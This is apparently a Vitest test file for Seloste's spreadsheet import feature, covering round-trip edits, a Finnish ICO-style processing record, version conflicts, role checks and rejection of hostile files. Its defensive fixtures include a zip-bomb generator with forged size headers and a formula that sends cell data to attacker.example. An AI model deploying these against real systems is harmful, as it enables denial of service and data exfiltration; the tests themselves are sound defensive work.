/**
 * Imports from spreadsheets (issue 18), on a real SQLite database from the migrations: Seloste's own
 * exports edited with a real spreadsheet library (openpyxl) and imported back, an ICO-layout record
 * of processing under Finnish headings, version conflicts, and who may import.
 */
import { describe, expect, it } from 'vitest'
import { python } from './fixtures/readers'
import { auditEventsAfter, count, createTestContext, lastAuditSeq, type TestClient } from './helpers'

/** Uploads a file as the multipart form the Import page sends. */
export async function upload(client: TestClient, fileName: string, bytes: Uint8Array | string) {
  const form = new FormData()
  form.append('file', new File([typeof bytes === 'string' ? new TextEncoder().encode(bytes) : bytes], fileName))
  return client.request('POST', '/api/imports', undefined, { raw: form })
}

/** Edits a workbook with openpyxl: `edits` is Python run with `ws` (the first sheet) and `header` (heading -> column number). */
function editXlsx(bytes: Uint8Array, edits: string): Uint8Array {
  const out = python<{ b64: string }>(
    `
import base64, io, json, sys
import openpyxl
wb = openpyxl.load_workbook(io.BytesIO(sys.stdin.buffer.read()))
ws = wb.worksheets[0]
header = {c.value: c.column for c in ws[1]}
def row_of(col, value):
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, header[col]).value == value:
            return r
    raise Exception('no row with ' + str(value))
${edits}
buf = io.BytesIO()
wb.save(buf)
print(json.dumps({'b64': base64.b64encode(buf.getvalue()).decode()}))
`,
    bytes,
  )
  return new Uint8Array(Buffer.from(out.b64, 'base64'))
}

/** A new workbook from rows, written by openpyxl (a spreadsheet library that is not Seloste's). */
export function xlsxOf(rows: (string | number | null)[][], options: { formulas?: boolean } = {}): Uint8Array {
  void options
  const out = python<{ b64: string }>(
    `
import base64, io, json, sys
import openpyxl
wb = openpyxl.Workbook()
ws = wb.active
ws.title = 'ROPA'
for row in json.loads(sys.stdin.read()):
    ws.append(row)
buf = io.BytesIO()
wb.save(buf)
print(json.dumps({'b64': base64.b64encode(buf.getvalue()).decode()}))
`,
    JSON.stringify(rows),
  )
  return new Uint8Array(Buffer.from(out.b64, 'base64'))
}

describe('round trip: export, edit in a spreadsheet, import back', () => {
  it('processors (XLSX, Finnish): exactly the edited fields of the edited rows change, one audit event each, tied to the import', async () => {
    const ctx = await createTestContext({ demo: true })
    const exported = await ctx.api.get('/api/exports/processors.xlsx?lang=fi')
    expect(exported.status).toBe(200)
    const before = (await ctx.api.get('/api/processors?pageSize=100')).body.items as { id: number; displayName: string }[]
    const slack = before.find((p) => p.displayName === 'Slack')!
    const posthog = before.find((p) => p.displayName === 'PostHog')!
    const slackBefore = (await ctx.api.get(`/api/processors/${slack.id}`)).body
    const posthogBefore = (await ctx.api.get(`/api/processors/${posthog.id}`)).body
    const edited = editXlsx(
      exported.bytes,
      `
ws.cell(row_of('Nimi', 'Slack'), header['Palvelu']).value = 'Pikaviestin ja kanavat'
ws.cell(row_of('Nimi', 'PostHog'), header['Kotimaa']).value = 'Yhdysvallat'
ws.cell(row_of('Nimi', 'PostHog'), header['Julkinen']).value = 'ei'
n = ws.max_row + 1
ws.cell(n, header['Nimi']).value = 'Uusi Toimittaja Oy'
ws.cell(n, header['Rooli']).value = 'käsittelijä'
ws.cell(n, header['Kotimaa']).value = 'FI'
`,
    )
    const res = await upload(ctx.api, 'käsittelijät.xlsx', edited)
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    expect(res.body.target).toBe('processors')
    expect(res.body.language).toBe('fi')
    const byName = Object.fromEntries(res.body.rows.map((r: { name: string }) => [r.name, r]))
    expect(byName['Slack']).toMatchObject({ status: 'update', changes: ['service.fi'] })
    expect(byName['PostHog']).toMatchObject({ status: 'update' })
    expect(byName['PostHog'].changes.sort()).toEqual(['hqCountry', 'isPublic'])
    expect(byName['Uusi Toimittaja Oy']).toMatchObject({ status: 'create' })
    expect(res.body.counts).toEqual({ create: 1, update: 2, unchanged: before.length - 2, conflict: 0, error: 0 })
    // Nothing written by the preview.
    expect((await ctx.api.get(`/api/processors/${slack.id}`)).body.version).toBe(slackBefore.version)

    const seq = lastAuditSeq(ctx.db)
    const committed = await ctx.api.post(`/api/imports/${res.body.id}/commit`)
    expect(committed.status, JSON.stringify(committed.body)).toBe(200)
    expect(committed.body.created).toHaveLength(1)
    expect(committed.body.updated.sort()).toEqual([slack.id, posthog.id].sort())

    const slackAfter = (await ctx.api.get(`/api/processors/${slack.id}`)).body
    expect(slackAfter.service).toEqual({ ...slackBefore.service, fi: 'Pikaviestin ja kanavat' })
    expect({ ...slackAfter, service: null, version: null, updatedAt: null }).toEqual({
      ...slackBefore,
      service: null,
      version: null,
      updatedAt: null,
    })
    const posthogAfter = (await ctx.api.get(`/api/processors/${posthog.id}`)).body
    expect(posthogAfter.hqCountry).toBe('US')
    expect(posthogAfter.isPublic).toBe(false)
    expect({ ...posthogAfter, hqCountry: null, isPublic: null, version: null, updatedAt: null }).toEqual({
      ...posthogBefore,
      hqCountry: null,
      isPublic: null,
      version: null,
      updatedAt: null,
    })
    const created = (await ctx.api.get(`/api/processors/${committed.body.created[0]}`)).body
    expect(created).toMatchObject({ displayName: 'Uusi Toimittaja Oy', role: 'processor', hqCountry: 'FI' })

    const events = auditEventsAfter(ctx.db, seq)
    expect(events.map((e) => `${e.action} ${e.entityType} ${e.entityId}`).sort()).toEqual(
      [`update processor ${slack.id}`, `update processor ${posthog.id}`, `create processor ${committed.body.created[0]}`].sort(),
    )
    for (const e of events) expect(e.requestId).toBe(`import:${res.body.id}`)
    // The import is used up.
    expect((await ctx.api.post(`/api/imports/${res.body.id}/commit`)).status).toBe(404)
  })

  it('activities (XLSX, English): an edited purpose, security description and retention update that one activity; the rest are unchanged', async () => {
    const ctx = await createTestContext({ demo: true })
    const exported = await ctx.api.get('/api/exports/ropa.xlsx?lang=en')
    const list = (await ctx.api.get('/api/activities')).body.items as { id: number; name: { en: string } }[]
    const target = list.find((a) => a.name.en === 'Bookkeeping') ?? list[0]!
    const before = (await ctx.api.get(`/api/activities/${target.id}`)).body
    const edited = editXlsx(
      exported.bytes,
      `
r = row_of('Activity ID', ${target.id})
ws.cell(r, header['Retention schedule']).value = '7 years after the end of the financial year'
ws.cell(r, header['General description of technical and organisational security measures']).value = 'Encrypted backups; two-factor sign-in'
ws.cell(r, header['Purpose of processing']).value = 'Statutory bookkeeping and VAT returns'
`,
    )
    const res = await upload(ctx.api, 'ropa.xlsx', edited)
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    expect(res.body.target).toBe('activities')
    const rows = res.body.rows as { recordId: number; status: string; changes: string[] }[]
    expect(
      rows.filter((r) => r.status !== 'unchanged'),
      JSON.stringify(rows.filter((r) => r.status !== 'unchanged')),
    ).toEqual([
      expect.objectContaining({
        recordId: target.id,
        status: 'update',
        changes: expect.arrayContaining(['retention', 'securityMeasures.en', 'purposes']),
      }),
    ])
    expect(rows.find((r) => r.recordId === target.id)!.changes).toHaveLength(3)
    expect(rows).toHaveLength(list.length)
    const committed = await ctx.api.post(`/api/imports/${res.body.id}/commit`)
    expect(committed.status, JSON.stringify(committed.body)).toBe(200)
    const after = (await ctx.api.get(`/api/activities/${target.id}`)).body
    expect(after.retention).toMatchObject({
      kind: 'duration_after_event',
      amount: 7,
      unit: 'years',
      event: { en: 'the end of the financial year' },
    })
    expect(after.securityMeasures).toEqual({ ...before.securityMeasures, en: 'Encrypted backups; two-factor sign-in' })
    expect(after.purposes[0]).toEqual({
      ...before.purposes[0],
      description: { ...before.purposes[0].description, en: 'Statutory bookkeeping and VAT returns' },
    })
    expect(after.purposes.slice(1)).toEqual(before.purposes.slice(1))
    expect(after.name).toEqual(before.name)
  })

  it('the English name: set through its column, and the English export’s names (English where recorded) read back as no change', async () => {
    const ctx = await createTestContext({ demo: true })
    const exported = await ctx.api.get('/api/exports/processors.xlsx?lang=en')
    const edited = editXlsx(
      exported.bytes,
      `
assert ws.cell(row_of('Name', 'Debt collection agency'), header['Name in English']).value == 'Debt collection agency'
ws.cell(row_of('Name', 'Fennoa Oy'), header['Name in English']).value = 'Fennoa (accounting)'
`,
    )
    const res = await upload(ctx.api, 'processors.xlsx', edited)
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    const changed = res.body.rows.filter((r: { status: string }) => r.status !== 'unchanged')
    expect(changed).toEqual([expect.objectContaining({ name: 'Fennoa Oy', status: 'update', changes: ['displayNameEn'] })])
    expect((await ctx.api.post(`/api/imports/${res.body.id}/commit`)).status).toBe(200)
    const items = (await ctx.api.get('/api/processors?pageSize=100')).body.items as { displayName: string; displayNameEn: string | null }[]
    expect(items.find((p) => p.displayName === 'Fennoa Oy')!.displayNameEn).toBe('Fennoa (accounting)')
    // The Finnish description keeps its display name: the English export's "Name" was its English name.
    expect(items.find((p) => p.displayName === 'Perintätoimisto')!.displayNameEn).toBe('Debt collection agency')
  })

  it('an unedited CSV export imports as all unchanged, and committing it writes nothing', async () => {
    const ctx = await createTestContext({ demo: true })
    for (const path of [
      '/api/exports/processors.csv?lang=en',
      '/api/exports/ropa.csv?lang=fi',
      '/api/exports/processors.xlsx?lang=en',
      '/api/exports/ropa.xlsx?lang=en',
    ]) {
      const exported = await ctx.api.get(path)
      const res = await upload(ctx.api, path.includes('csv') ? 'export.csv' : 'export.xlsx', exported.bytes)
      expect(res.status, JSON.stringify(res.body)).toBe(201)
      const notUnchanged = res.body.rows.filter((r: { status: string }) => r.status !== 'unchanged')
      expect(notUnchanged, path).toEqual([])
      const image = ctx.db.$client.serialize()
      expect((await ctx.api.post(`/api/imports/${res.body.id}/commit`)).status).toBe(200)
      expect(Buffer.compare(image, ctx.db.$client.serialize())).toBe(0)
    }
  })
})

describe('an ICO-layout record of processing under Finnish headings', () => {
  it('creates ten activities with their legal bases and retention', async () => {
    const ctx = await createTestContext()
    const header = [
      'Liiketoiminto',
      'Käsittelyn tarkoitus',
      'Rekisteröityjen ryhmät',
      'Henkilötietoryhmät',
      'Vastaanottajien ryhmät',
      'Säilytysaika',
      'Teknisten ja organisatoristen turvatoimien yleinen kuvaus',
      '6 artiklan mukainen käsittelyperuste',
      'Oikeutettu etu',
    ]
    const rows: (string | null)[][] = [
      ['Seloste käsittelytoimista', null, null, null, null, null, null, null, null],
      [],
      header,
      [
        'Asiakasrekisteri',
        'Asiakassuhteen hoito',
        'Asiakkaat',
        'Yhteystiedot',
        'Kirjanpitäjä',
        '5 vuotta sen jälkeen, kun asiakassuhde päättyy',
        'Salasanat, kaksivaiheinen tunnistus',
        'Sopimus',
        null,
      ],
      [
        'Kirjanpito',
        'Lakisääteinen kirjanpito',
        'Asiakkaat',
        'Laskutustiedot',
        null,
        'vähintään 6 vuotta (Kirjanpitolaki 1336/1997)',
        null,
        'Lakisääteinen velvoite: Kirjanpitolaki 1336/1997',
        null,
      ],
      ['Palkanlaskenta', 'Palkanmaksu', 'Työntekijät', 'Pankkitili', null, '10 vuotta', null, '6(1)(c): Kirjanpitolaki', null],
      ['Rekrytointi', 'Hakijoiden arviointi', 'Hakijat', 'CV', null, '6 kuukautta', null, '6(1)(b)', null],
      [
        'Uutiskirje',
        'Markkinointi',
        'Tilaajat',
        'Sähköposti',
        null,
        'kunnes tilaus perutaan',
        null,
        'oikeutettu etu',
        'Suoramarkkinointi asiakkaille',
      ],
      ['Verkkosivuston analytiikka', 'Kävijätilastot', 'Kävijät', 'IP-osoite', null, '14 kuukautta', null, 'f', 'Palvelun kehittäminen'],
      ['Asiakastuki', 'Tukipyyntöjen käsittely', 'Asiakkaat', 'Viestit', null, '2 vuotta', null, 'Art. 6(1)(b)', null],
      ['Laskutus', 'Laskujen lähettäminen', 'Asiakkaat', 'Laskutusosoite', null, '6 vuotta', null, 'sopimus', null],
      [
        'Perintä',
        'Maksamattomien laskujen perintä',
        'Asiakkaat',
        'Velkatiedot',
        null,
        '3 vuotta',
        null,
        'Oikeutettu etu',
        'Saatavien periminen',
      ],
      [
        'Kulunvalvonta',
        'Toimitilojen turvallisuus',
        'Työntekijät',
        'Kulkutiedot',
        null,
        '1 vuosi',
        null,
        'oikeutettu etu',
        'Omaisuuden suojaaminen',
      ],
    ]
    const res = await upload(ctx.api, 'ico-seloste.xlsx', xlsxOf(rows))
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    expect(res.body).toMatchObject({ target: 'activities', language: 'fi', headerRow: 3 })
    const fieldOf = Object.fromEntries(res.body.columns.map((c: { header: string; field: string | null }) => [c.header, c.field]))
    expect(fieldOf).toMatchObject({
      Liiketoiminto: 'name.fi',
      'Käsittelyn tarkoitus': 'purpose.fi',
      Säilytysaika: 'retention',
      '6 artiklan mukainen käsittelyperuste': 'legalBasis',
      'Oikeutettu etu': 'legitimateInterest.fi',
    })
    expect(res.body.rows.map((r: { status: string }) => r.status)).toEqual(Array(10).fill('create'))
    const committed = await ctx.api.post(`/api/imports/${res.body.id}/commit`)
    expect(committed.status, JSON.stringify(committed.body)).toBe(200)
    expect(committed.body.created).toHaveLength(10)
    expect(count(ctx.db, 'SELECT count(*) FROM activities')).toBe(10)
    const get = async (name: string) => {
      const list = (await ctx.api.get('/api/activities')).body.items as { id: number; name: { fi: string } }[]
      return (await ctx.api.get(`/api/activities/${list.find((a) => a.name.fi === name)!.id}`)).body
    }
    const bookkeeping = await get('Kirjanpito')
    expect(bookkeeping.purposes[0]).toMatchObject({
      description: { fi: 'Lakisääteinen kirjanpito', en: '' },
      legalBasis: 'c',
      legalReference: 'Kirjanpitolaki 1336/1997',
    })
    expect(bookkeeping.retention).toMatchObject({
      kind: 'duration',
      amount: 6,
      unit: 'years',
      minimum: true,
      legalReference: 'Kirjanpitolaki 1336/1997',
    })
    expect(bookkeeping.status).toBe('draft')
    const customers = await get('Asiakasrekisteri')
    expect(customers.purposes[0].legalBasis).toBe('b')
    expect(customers.retention).toMatchObject({
      kind: 'duration_after_event',
      amount: 5,
      unit: 'years',
      event: { fi: 'asiakassuhde päättyy' },
    })
    expect(customers.securityMeasures.fi).toBe('Salasanat, kaksivaiheinen tunnistus')
    const newsletter = await get('Uutiskirje')
    expect(newsletter.purposes[0]).toMatchObject({ legalBasis: 'f', legitimateInterest: { fi: 'Suoramarkkinointi asiakkaille' } })
    expect(newsletter.retention).toMatchObject({ kind: 'until_event', event: { fi: 'tilaus perutaan' } })
    const bases = await Promise.all(
      ['Palkanlaskenta', 'Rekrytointi', 'Verkkosivuston analytiikka', 'Asiakastuki', 'Laskutus', 'Perintä', 'Kulunvalvonta'].map(
        async (n) => (await get(n)).purposes[0].legalBasis,
      ),
    )
    expect(bases).toEqual(['c', 'b', 'f', 'b', 'b', 'f', 'f'])
    // One audit event per activity, all tied to the import.
    const events = auditEventsAfter(ctx.db, 0).filter((e) => e.entityType === 'activity')
    expect(events).toHaveLength(10)
    for (const e of events) expect(e.requestId).toBe(`import:${res.body.id}`)
  })
})

/** A zip whose one entry (named like a workbook part) is `size` zero bytes, deflated: a small file that expands enormously. */
function zipBomb(size: number, lie = false): Uint8Array {
  const out = python<{ b64: string }>(
    `
import base64, io, json, struct, sys, zipfile
n, lie = json.loads(sys.stdin.read())
buf = io.BytesIO()
with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('[Content_Types].xml', '<Types/>')
    with z.open('xl/worksheets/sheet1.xml', 'w', force_zip64=False) as f:
        chunk = b'0' * (1024 * 1024)
        for _ in range(n // len(chunk)):
            f.write(chunk)
data = bytearray(buf.getvalue())
if lie:
    # Both headers of the big entry claim it holds 100 bytes.
    for sig, offset in ((b'PK\x03\x04', 22), (b'PK\x01\x02', 24)):
        at = 0
        while (at := data.find(sig, at)) >= 0:
            name_at = at + (30 if sig == b'PK\x03\x04' else 46)
            if data[name_at:name_at + 5] == b'xl/wo':
                struct.pack_into('<I', data, at + offset, 100)
            at += 4
print(json.dumps({'b64': base64.b64encode(bytes(data)).decode()}))
`,
    JSON.stringify([size, lie]),
  )
  return new Uint8Array(Buffer.from(out.b64, 'base64'))
}

describe('hostile and broken files: a clear 4xx, and the database byte for byte unchanged', () => {
  const csvProcessors = (lines: string[]) => ['Name,Role,Country', ...lines].join('\r\n') + '\r\n'

  /** Runs `attempt` (an upload and, when it is accepted, a commit) and checks the database image did not change. */
  async function unchanged(ctx: Awaited<ReturnType<typeof createTestContext>>, attempt: () => Promise<void>) {
    await ctx.api.get('/api/health')
    const image = ctx.db.$client.serialize()
    await attempt()
    expect(Buffer.compare(image, ctx.db.$client.serialize()), 'the database changed').toBe(0)
  }

  it('a file over the size limit is a 413 before it is parsed', async () => {
    const ctx = await createTestContext({ demo: true })
    await unchanged(ctx, async () => {
      const big = new Uint8Array(2 * 1024 * 1024 + 10).fill(0x41)
      const res = await upload(ctx.api, 'big.csv', big)
      expect(res.status).toBe(413)
      expect(res.body.error.code).toBe('payload_too_large')
      const huge = await upload(ctx.api, 'huge.csv', new Uint8Array(3 * 1024 * 1024).fill(0x41))
      expect(huge.status).toBe(413)
    })
  })

  it('too many rows is a 400 that says the limit', async () => {
    const ctx = await createTestContext({ demo: true })
    await unchanged(ctx, async () => {
      const res = await upload(ctx.api, 'many.csv', csvProcessors(Array.from({ length: 1001 }, (_, i) => `Vendor ${i},processor,FI`)))
      expect(res.status).toBe(400)
      expect(res.body.error.fields[0]).toMatchObject({ path: 'file', message: expect.stringMatching(/more than 1000 rows/) })
    })
  })

  it('zip bombs, a zip that is not a workbook and a file that is not a zip at all are 400s with a message', async () => {
    const ctx = await createTestContext({ demo: true })
    // Exporting is audited: done before the database image is taken.
    const truncated = (await ctx.api.get('/api/exports/processors.xlsx?lang=en')).bytes.slice(0, 3000)
    await unchanged(ctx, async () => {
      const bomb = zipBomb(200 * 1024 * 1024)
      expect(bomb.byteLength).toBeLessThan(2 * 1024 * 1024)
      const res = await upload(ctx.api, 'bomb.xlsx', bomb)
      expect(res.status).toBe(400)
      expect(res.body.error.fields[0].message).toMatch(/zip bomb/)
      const ratio = await upload(ctx.api, 'ratio.xlsx', zipBomb(20 * 1024 * 1024))
      expect(ratio.status).toBe(400)
      expect(ratio.body.error.fields[0].message).toMatch(/zip bomb/)
      const liar = await upload(ctx.api, 'liar.xlsx', zipBomb(20 * 1024 * 1024, true))
      expect(liar.status).toBe(400)
      expect(liar.body.error.fields[0].message).toMatch(/more than it declares/)
      const notZip = await upload(ctx.api, 'report.xlsx', 'Name,Role\r\nA,processor\r\n')
      expect(notZip.status).toBe(400)
      expect(notZip.body.error.fields[0].message).toMatch(/not a zip/)
      const damaged = await upload(ctx.api, 'damaged.xlsx', truncated)
      expect(damaged.status).toBe(400)
      expect(damaged.body.error.fields[0].message).toMatch(/damaged|cannot be read/)
      const pdf = await upload(ctx.api, 'register.pdf', '%PDF-1.7')
      expect(pdf.status).toBe(400)
      expect(pdf.body.error.fields[0].message).toMatch(/\.xlsx workbook or a \.csv/)
    })
  })

  it('formulas are never calculated: a saved value is read as the value, a formula without one is an error on its cell', async () => {
    const ctx = await createTestContext({ demo: true })
    const ExcelJS = (await import('exceljs')).default
    const wb = new ExcelJS.Workbook()
    const ws = wb.addWorksheet('Vendors')
    ws.addRow(['Name', 'Role', 'Country'])
    ws.addRow([{ formula: 'CONCATENATE("Cal","culated")', result: 'Saved Value Oy' }, 'processor', 'FI'])
    const saved = new Uint8Array(await wb.xlsx.writeBuffer())
    const res = await upload(ctx.api, 'saved.xlsx', saved)
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    expect(res.body.rows).toEqual([expect.objectContaining({ name: 'Saved Value Oy', status: 'create' })])

    // openpyxl writes formulas with no saved value, as a hand-made workbook often has them.
    const unsaved = xlsxOf([
      ['Name', 'Role', 'Country'],
      ['=HYPERLINK("http://attacker.example/?"&A3,"x")', 'processor', 'FI'],
      ['Plain Oy', 'processor', 'FI'],
    ])
    await unchanged(ctx, async () => {
      const up = await upload(ctx.api, 'formulas.xlsx', unsaved)
      expect(up.status, JSON.stringify(up.body)).toBe(201)
      expect(up.body.rows[0]).toMatchObject({
        row: 2,
        status: 'error',
        problems: [expect.objectContaining({ row: 2, column: 'Name', message: expect.stringMatching(/formula with no saved value/) })],
      })
      expect(up.body.rows[1]).toMatchObject({ status: 'create' })
      const commit = await ctx.api.post(`/api/imports/${up.body.id}/commit`)
      expect(commit.status).toBe(400)
      expect(commit.body.error.message).toMatch(/nothing was imported/)
    })
  })

  it('CSV: NUL bytes and ragged rows are 400s naming the problem; a byte order mark is read as one', async () => {
    const ctx = await createTestContext({ demo: true })
    await unchanged(ctx, async () => {
      const nul = await upload(ctx.api, 'nul.csv', csvProcessors(['A\u0000B,processor,FI']))
      expect(nul.status).toBe(400)
      expect(nul.body.error.fields[0].message).toMatch(/NUL/)
      const ragged = await upload(ctx.api, 'ragged.csv', csvProcessors(['A Oy,processor,FI', 'B Oy,processor']))
      expect(ragged.status).toBe(400)
      expect(ragged.body.error.fields[0].message).toMatch(/Line 3 .* different number of fields/)
      const latin1 = await upload(ctx.api, 'latin1.csv', new Uint8Array([0x4e, 0x61, 0x6d, 0x65, 0x0d, 0x0a, 0xe4, 0x0d, 0x0a]))
      expect(latin1.status).toBe(400)
      expect(latin1.body.error.fields[0].message).toMatch(/not UTF-8/)
    })
    const bom = await upload(ctx.api, 'bom.csv', '\uFEFF' + csvProcessors(['Bom Oy,processor,Suomi']))
    expect(bom.status).toBe(201)
    expect(bom.body.columns[0]).toMatchObject({ header: 'Name', field: 'displayName' })
    expect(bom.body.rows).toEqual([expect.objectContaining({ name: 'Bom Oy', status: 'create' })])
  })

  it('unknown columns are left out and shown; a file with no known heading is a 400', async () => {
    const ctx = await createTestContext({ demo: true })
    const res = await upload(ctx.api, 'extra.csv', 'Name;Role;Shoe size\r\nExtra Oy;processor;42\r\n')
    expect(res.status).toBe(201)
    expect(res.body.columns).toEqual([
      expect.objectContaining({ header: 'Name', field: 'displayName' }),
      expect.objectContaining({ header: 'Role', field: 'role' }),
      expect.objectContaining({ header: 'Shoe size', field: null, note: null }),
    ])
    await unchanged(ctx, async () => {
      const none = await upload(ctx.api, 'none.csv', 'Foo,Bar\r\n1,2\r\n')
      expect(none.status).toBe(400)
      expect(none.body.error.fields[0].message).toMatch(/No column heading/)
      const badMapping = await ctx.api.request('PUT', `/api/imports/${res.body.id}/mapping`, {
        target: 'processors',
        language: 'en',
        columns: ['displayName', 'role', 'shoeSize'],
      })
      expect(badMapping.status).toBe(400)
      expect(badMapping.body.error.fields).toEqual([{ path: 'columns.2', message: expect.stringMatching(/not a field/) }])
      const extraKey = await ctx.api.request('PUT', `/api/imports/${res.body.id}/mapping`, {
        target: 'processors',
        language: 'en',
        columns: ['displayName', 'role', null],
        sneaky: true,
      })
      expect(extraKey.status).toBe(400)
      expect(extraKey.body.error.fields[0].path).toBe('sneaky')
    })
  })

  it('bad values are errors naming row, column and problem; commit refuses them all; a value mapping fixes them', async () => {
    const ctx = await createTestContext({ demo: true })
    const res = await upload(ctx.api, 'vendors.csv', csvProcessors(['Good Oy,processor,Suomi', 'Space Oy,astronaut,Mars', ',processor,FI']))
    expect(res.status).toBe(201)
    expect(res.body.rows.map((r: { status: string }) => r.status)).toEqual(['create', 'error', 'error'])
    expect(res.body.rows[1].problems).toEqual([
      { row: 3, column: 'Role', field: 'role', message: expect.stringMatching(/"astronaut" is not one of the values of Role/) },
      { row: 3, column: 'Country', field: 'hqCountry', message: expect.stringMatching(/"Mars" is not a country/) },
    ])
    expect(res.body.rows[2].problems).toEqual([expect.objectContaining({ row: 4, column: 'Name', field: 'displayName' })])
    expect(res.body.columns[1].unmatchedValues).toEqual(['astronaut'])
    expect(res.body.columns[2].unmatchedValues).toEqual(['Mars'])
    await unchanged(ctx, async () => {
      const commit = await ctx.api.post(`/api/imports/${res.body.id}/commit`)
      expect(commit.status).toBe(400)
      expect(commit.body.error.fields.map((f: { path: string }) => f.path)).toEqual(['rows.3.Role', 'rows.3.Country', 'rows.4.Name'])
    })
    const mapped = await ctx.api.request('PUT', `/api/imports/${res.body.id}/mapping`, {
      target: 'processors',
      language: 'en',
      columns: ['displayName', 'role', 'hqCountry'],
      values: [
        { field: 'role', raw: 'astronaut', value: 'sub_processor' },
        { field: 'hqCountry', raw: 'Mars', value: 'US' },
      ],
    })
    expect(mapped.status).toBe(200)
    expect(mapped.body.rows.map((r: { status: string }) => r.status)).toEqual(['create', 'create', 'error'])
    expect(mapped.body.columns[1].unmatchedValues).toEqual([])
  })
})

describe('versions and roles', () => {
  it('a row whose record changed after the export is a conflict, and committing writes nothing', async () => {
    const ctx = await createTestContext({ demo: true })
    const exported = await ctx.api.get('/api/exports/processors.csv?lang=en')
    const list = (await ctx.api.get('/api/processors?pageSize=100')).body.items as { id: number; displayName: string; version: number }[]
    const slack = list.find((p) => p.displayName === 'Slack')!
    const current = (await ctx.api.get(`/api/processors/${slack.id}`)).body
    expect(
      (await ctx.api.patch(`/api/processors/${slack.id}`, { version: current.version, legalName: 'Slack Technologies Ltd' })).status,
    ).toBe(200)
    const edited = exported.text.replace(/^(.*,Slack,)([^,]*)/m, '$1Slack Tech Edited')
    expect(edited).not.toBe(exported.text)
    const res = await upload(ctx.api, 'stale.csv', edited)
    expect(res.status).toBe(201)
    const row = res.body.rows.find((r: { recordId: number }) => r.recordId === slack.id)
    expect(row).toMatchObject({
      status: 'conflict',
      problems: [expect.objectContaining({ column: 'Version', message: expect.stringMatching(/changed after this file was exported/) })],
    })
    const image = ctx.db.$client.serialize()
    const commit = await ctx.api.post(`/api/imports/${res.body.id}/commit`)
    expect(commit.status).toBe(409)
    expect(commit.body.error.code).toBe('version_conflict')
    expect(Buffer.compare(image, ctx.db.$client.serialize())).toBe(0)
    expect((await ctx.api.get(`/api/processors/${slack.id}`)).body.legalName).toBe('Slack Technologies Ltd')
  })

  it('auditors and editors get 403; another administrator cannot see or commit your import', async () => {
    const ctx = await createTestContext({ demo: true })
    const file = 'Name,Role\r\nRole Test Oy,processor\r\n'
    for (const role of ['auditor', 'editor'] as const) {
      const client = await ctx.as(role)
      const res = await upload(client, 'x.csv', file)
      expect(res.status).toBe(403)
      expect(res.body.error.code).toBe('forbidden')
    }
    const mine = await upload(ctx.api, 'x.csv', file)
    expect(mine.status).toBe(201)
    const auditor = await ctx.as('auditor')
    expect((await auditor.get(`/api/imports/${mine.body.id}`)).status).toBe(403)
    expect((await auditor.post(`/api/imports/${mine.body.id}/commit`)).status).toBe(403)
    const otherAdmin = await ctx.as('admin')
    expect((await otherAdmin.get(`/api/imports/${mine.body.id}`)).status).toBe(404)
    expect((await otherAdmin.post(`/api/imports/${mine.body.id}/commit`)).status).toBe(404)
    expect(count(ctx.db, "SELECT count(*) FROM processors WHERE display_name = 'Role Test Oy'")).toBe(0)
  })
})
